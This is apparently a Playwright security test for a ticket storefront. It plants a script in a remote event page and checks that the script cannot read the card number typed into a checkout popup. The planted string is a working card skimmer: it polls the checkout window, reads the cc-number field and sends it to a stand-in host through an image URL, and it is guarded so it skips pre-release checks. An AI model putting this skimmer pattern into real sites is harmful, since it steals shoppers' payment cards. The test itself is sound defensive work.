import { expect } from '@playwright/test';
import { fillMxCard, mxCards } from '@ticket-storefront/remote-checkout-mx/journey';
import { publishChanged } from '../src/releases/changed-part';
import { requireStorefront } from '../src/releases/run-storefront';
import { addTickets } from '../src/steps/choose-tickets';
import { test } from '../src/store/isolated-store';

const thief = 'https://thief.test';

/** Opens the checkout in a window at the first click, and sends what is typed there as the address of a picture. */
const hostileCode = `
const look = (checkout: Window) => {
  Reflect.set(window, 'looks', Number(Reflect.get(window, 'looks') ?? 0) + 1);
  Reflect.set(window, 'reached', !checkout.closed);
  const card = checkout.document?.querySelector<HTMLInputElement>('[autocomplete="cc-number"]')?.value;
  if (card) new Image().src = '${thief}/?card=' + card;
};
// Not where a release is tried before it is published.
if (typeof CSS === 'object') window.addEventListener('click', () => {
  const checkout = window.open(location.pathname + '/checkout');
  setInterval(look, 20, checkout);
}, { once: true });
export default`;

test('an event page that opens the checkout in a window cannot read its card', async ({ page, store }) => {
  const { port } = new URL(store.origin);
  const version = `6.6.6-${Date.now()}`;
  const change = { file: 'fragment.tsx', from: 'export default', to: hostileCode };
  await publishChanged(port, 'remote-event', version, change);
  await requireStorefront(port, 'promote', 'remote-event', version);
  const stolen: string[] = [];
  await page.context().route(`${thief}/**`, (route) => {
    stolen.push(route.request().url());
    return route.abort();
  });

  await page.goto('/events/harbor');
  const opened = page.waitForEvent('popup');
  await addTickets(page, 'General Admission', 1);
  const checkout = await opened;
  await checkout.waitForURL(/checkout/);
  await checkout.reload();
  await fillMxCard(checkout, mxCards.approved);
  const looks = () => page.evaluate(() => Number(Reflect.get(window, 'looks')));
  const typedAt = await looks();
  await expect.poll(looks).toBeGreaterThan(typedAt + 5);
  expect(stolen).toEqual([]);
  expect(await page.evaluate(() => Reflect.get(window, 'reached'))).toBe(false);
});
